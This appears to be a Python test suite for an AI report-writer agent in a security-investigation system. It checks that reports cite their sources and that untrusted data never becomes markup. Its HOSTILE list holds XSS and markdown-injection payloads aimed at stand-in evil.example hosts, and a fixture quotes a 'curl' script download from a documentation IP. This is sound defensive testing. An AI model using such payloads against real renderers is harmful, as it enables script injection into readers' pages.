"""Reports: every sentence cites what it rests on, and nothing that came from data is markup, whatever it holds."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from services.agents.roster.report_writer.agent import ReportWriter
from services.agents.roster.report_writer.markdown import inline, rendered, sources
from services.agents.roster.report_writer.writing import Writing
from services.agents.toolkit.fencing import quote
from services.agents.toolkit.records import record
from shared.contracts.agents import AnalyzeThreat
from shared.contracts.claims import Citation, Finding
from shared.contracts.common import Observable
from shared.contracts.reports import (
    CitedResult,
    ReportedAlert,
    ReportedContradiction,
    ReportedStep,
    ReportRequest,
    Section,
    Sentence,
)
from shared.contracts.responses import ResponsePlan, ResponseStep
from shared.contracts.wire import encode
from shared.errors import ALERT_NOT_FOUND, AuroraError
from tests.unit.agents.agent_kit import NOW, work

TRIAGE, ENDPOINT, FAILED = (f"019a0000-0000-7000-8000-00000000000{number}" for number in (1, 2, 3))
RESULT = f"tr_{'a' * 32}"
OTHER = f"tr_{'b' * 32}"
#: What a renderer would make something of, had it not been made harmless.
HOSTILE = [
    "[click](http://evil.example/x)",
    "![x](http://evil.example/x.png)",
    "<img src=x onerror=alert(1)>",
    "</code></pre><script>alert(1)</script>",
    "http://evil.example/a www.evil.example evil.example me@evil.example",
    "# heading",
    "a\n# heading\n\n- item\n\n---\n",
    "a\n\n    code\n",
    "```\nfence\n```",
    "`` ` `` [a](b)",
    "`[a](b)`",
    "\\`[a](b)\\`",
    "\\[a](b) \\\\[a](b)",
    "| a | b |\n|---|---|\n| c | d |",
    "1. one\n2. two",
    "&lt;b&gt; &#91;a&#93;(b)",
    "<http://evil.example>",
    "[a]: http://evil.example\n[a]",
    "*bold* _em_ ~~gone~~ **strong**",
    "\u202eexe.txt\u200b \x1b[31m",
    '"[a](b)"',
    '\\"[a](http://x.example)\\"',
    "https://a.example/`x`[y](z)",
    "x\n===\ny\n---",
]


def step(identifier: str, agent: str, **said: Any) -> ReportedStep:
    status = said.pop("status", "completed")
    return ReportedStep(id=identifier, agent=agent, method="analyze_threat", status=status, **said)


def result(identifier: str) -> CitedResult:
    return CitedResult(id=identifier, agent="triage", tool="get_alert", executed_at=NOW)


def finding(claim: str, *citations: str, confidence: float = 0.9) -> Finding:
    return Finding(agent="triage", claim=claim, confidence=confidence, citations=list(citations))


def request(**changed: Any) -> ReportRequest:
    alert = ReportedAlert(
        id="ALRT-2026-000001",
        title="A cradle",
        severity="high",
        entities={"host": "web01", "user": "alice"},
        count=1,
        first_seen=NOW,
        last_seen=NOW,
    )
    told: dict[str, Any] = {
        "investigation_id": "019a0000-0000-7000-8000-0000000000ff",
        "alert_ids": [alert.id],
        "verdict": "malicious",
        "severity": "high",
        "confidence": 0.94,
        "mitre_techniques": ["T1059.004"],
        "iocs": [Observable("ip", "192.0.2.7")],
        "findings": [finding('downloads a script: "curl 192.0.2.7"', RESULT)],
        "citations": [result(RESULT)],
        "alerts": [alert],
        "steps": [
            step(TRIAGE, "triage", verdict="malicious", confidence=0.9, ruled_out=["ordinary use"]),
            step(ENDPOINT, "endpoint_analyst", verdict="benign", confidence=0.3),
            step(FAILED, "threat_intel", status="failed", error="AURORA-5030 Service temporarily unavailable"),
        ],
        "ruled_out": ["ordinary use"],
        "not_checked": ["looked at 6 of 9 events of the alert"],
        "contradictions": [ReportedContradiction(agents=["triage", "endpoint_analyst"], claims=["an attack", "none"])],
    }
    return ReportRequest(**(told | changed))


def timeline(text: str = 'ran "id"', host: str = "web01", actor: str = "alice") -> Citation:
    entry = {
        "timestamp": "2026-11-22T02:14:00.000Z",
        "last": "2026-11-22T02:15:00.000Z",
        "count": 2,
        "host": host,
        "actor": actor,
        "kind": "process",
        "text": text,
        "log_ids": ["log-1"],
    }
    return record("report_writer", "timeline", {"host": host}, {"entries": [entry]}, NOW)


def written(asked: ReportRequest, *timelines: Citation) -> tuple[list[Section], str]:
    writing = Writing(asked, {}, timelines)
    sections = writing.sections()
    return sections, rendered(writing.title(), sections) + "\n" + sources(writing.sources(sections))


def sentences(sections: list[Section], title: str) -> list[Sentence]:
    return [item for section in sections if section.title == title for item in section.sentences]


def tokens(markdown: str) -> Iterator[Token]:
    """Every token of a strict parser and of one that makes links of whatever looks like one."""
    for parser in (MarkdownIt("commonmark"), MarkdownIt("gfm-like")):
        for token in parser.parse(markdown):
            yield token
            yield from token.children or ()


def markup(markdown: str) -> list[tuple[str, str]]:
    """What a renderer makes of it, but for paragraphs, texts and code spans: kind, and where a link leads."""
    plain = ("paragraph_open", "paragraph_close", "inline", "text", "code_inline", "softbreak", "text_special")
    return [(token.type, str(token.attrGet("href") or "")) for token in tokens(markdown) if token.type not in plain]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_text_is_only_text(text: str) -> None:
    for told in (text, quote(text), f"ran {quote(text)} as {text}", f'{text} "'):
        assert markup(inline(told)) == []


@given(st.text(alphabet=st.sampled_from(list("[]()<>`*_#!|\\\"'~-=+:./@&; \n\thtpwx1a\u2028\u202e")), max_size=60))
def test_no_text_at_all_becomes_markup(text: str) -> None:
    assert markup(inline(text)) == []
    assert markup(inline(quote(text))) == []
    assert markup(inline(f"{quote(text)} {text}")) == []


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_in_a_report_on_hostile_data_only_our_headings_lists_and_links_to_sources_are_markup(text: str) -> None:
    alert = ReportedAlert(
        id=text[:64],
        title=text,
        severity="high",
        entities={"host": text, text: "alice"},
        count=1,
        first_seen=NOW,
        last_seen=NOW,
    )
    asked = request(
        investigation_id=text,
        findings=[finding(text, RESULT), finding(f"ran {quote(text)}", RESULT)],
        alerts=[alert],
        iocs=[Observable("domain", text), Observable(text[:64], "x")],
        ruled_out=[text],
        not_checked=[text],
        contradictions=[ReportedContradiction(agents=["triage", text], claims=[text, text])],
        plan=plan(text),
        mitre_techniques=[text],
        citations=[result(RESULT), result(text)],
        steps=[*request().steps, step(text, text)],
    )
    sections, markdown = written(asked, timeline(f"ran {quote(text)}", text, text))
    found = markup(markdown)
    ours = ("heading", "bullet_list", "list_item", "link")
    assert {kind for kind, _ in found} == {f"{name}_{end}" for name in ours for end in ("open", "close")}
    known = {f"#{identifier}" for identifier in (RESULT, TRIAGE, ENDPOINT, FAILED, timeline().id)}
    assert all(href.startswith("#tr_") or href in known for kind, href in found if kind == "link_open")
    headings = [kind for kind, _ in found].count("heading_open")
    cited = {identifier for section in sections for item in section.sentences for identifier in item.citations}
    assert headings == 2 * (1 + len(sections) + 1 + len(cited))  # read by two parsers


def plan(text: str) -> ResponsePlan:
    one = ResponseStep(
        id="step-1",
        phase="containment",
        action="isolate_host",
        title=f"Isolate {quote(text)}",
        target=Observable("host", text),
        rationale="",
        risk="high",
        risk_text="Everything stops",
        precondition=text,
        command="nft -f -",
        undo="nft delete",
        citations=[RESULT],
    )
    return ResponsePlan(steps=[one], not_planned=[text])


def test_every_sentence_cites_what_is_known_and_every_link_leads_to_a_source() -> None:
    sections, markdown = written(request(plan=plan("web01")), timeline())
    known = {RESULT, TRIAGE, ENDPOINT, FAILED, timeline().id}
    for section in sections:
        for sentence in section.sentences:
            assert sentence.citations, sentence.text
            assert known.issuperset(sentence.citations)
    headings = {line.removeprefix("### ") for line in markdown.splitlines() if line.startswith("### ")}
    links = {href.removeprefix("#") for _, href in markup(markdown) if href}
    assert links == headings


def test_a_sentence_that_nothing_known_carries_is_not_written() -> None:
    asked = request(findings=[finding("made up", OTHER), finding("forged", "[x](y)"), finding("seen", RESULT, OTHER)])
    sections, markdown = written(asked)
    assert [sentence.text for sentence in sentences(sections, "Findings")] == ["triage (weight 0.90): seen."]
    assert "made up" not in markdown
    assert "forged" not in markdown


def test_the_sections_tell_what_happened_what_was_ruled_out_and_what_was_not_checked() -> None:
    sections, markdown = written(request(plan=plan("web01")), timeline())
    assert [section.title for section in sections] == [
        "Summary",
        "What happened",
        "Findings",
        "Affected assets",
        "Indicators",
        "Techniques",
        "Response plan",
        "Contradictions",
        "What was ruled out",
        "What was not checked",
    ]
    assert sentences(sections, "What happened")[0].text.startswith('2026-11-22 02:14:00Z on "web01", "alice": ran "id"')
    assert sentences(sections, "What was ruled out")[0].citations == [TRIAGE]
    assert any("threat intel gave no answer" in item.text for item in sentences(sections, "What was not checked"))
    named = "T1059.004 (Command and Scripting Interpreter: Unix Shell) was seen."
    assert [item.text for item in sentences(sections, "Techniques")] == [named]
    assert sentences(sections, "Contradictions")[0].citations == [TRIAGE, ENDPOINT]
    assert markdown.startswith("# Investigation 019a0000")


def test_a_command_of_the_plan_is_not_copied_where_its_quoting_would_change() -> None:
    sections, markdown = written(request(plan=plan("web01")))
    assert "nft" not in markdown
    assert "none is carried out without approval" in sentences(sections, "Response plan")[0].text


def test_what_nobody_said_has_no_section() -> None:
    asked = request(findings=[], iocs=[], mitre_techniques=[], ruled_out=[], contradictions=[], alerts=[], plan=None)
    assert {section.title for section in written(asked)[0]} == {"Summary", "What was not checked"}


def test_the_same_investigation_gives_the_same_report_byte_for_byte() -> None:
    shuffled = request(findings=[finding("b", RESULT), finding("a", RESULT)])
    other = request(findings=[finding("a", RESULT), finding("b", RESULT)])
    assert encode(written(shuffled, timeline())) == encode(written(other, timeline()))


async def test_without_a_source_to_read_the_report_is_written_and_says_so() -> None:
    report = await ReportWriter().write_report(request(alerts=[]), work())
    assert report.citations == []
    assert report.markdown.endswith("\n")
    assert report.title == "Investigation 019a0000-0000-7000-8000-0000000000ff: malicious, severity high"


async def test_the_writer_has_no_vote() -> None:
    assessment = await ReportWriter().analyze(AnalyzeThreat(iocs=[Observable("ip", "192.0.2.7")]), work())
    assert (assessment.verdict, assessment.confidence, assessment.findings) == ("undetermined", 0.0, [])
    assert "write_report" in assessment.summary
    with pytest.raises(AuroraError) as refused:
        await ReportWriter().analyze(AnalyzeThreat(), work())
    assert refused.value.code is ALERT_NOT_FOUND


def test_times_are_told_in_utc_without_parts_of_a_second() -> None:
    late = CitedResult(id=RESULT, agent="triage", tool="get_alert", executed_at=datetime(2026, 1, 2, 3, 4, 5, 678, UTC))
    assert "at 2026-01-02 03:04:05Z" in written(request(citations=[late]))[1]
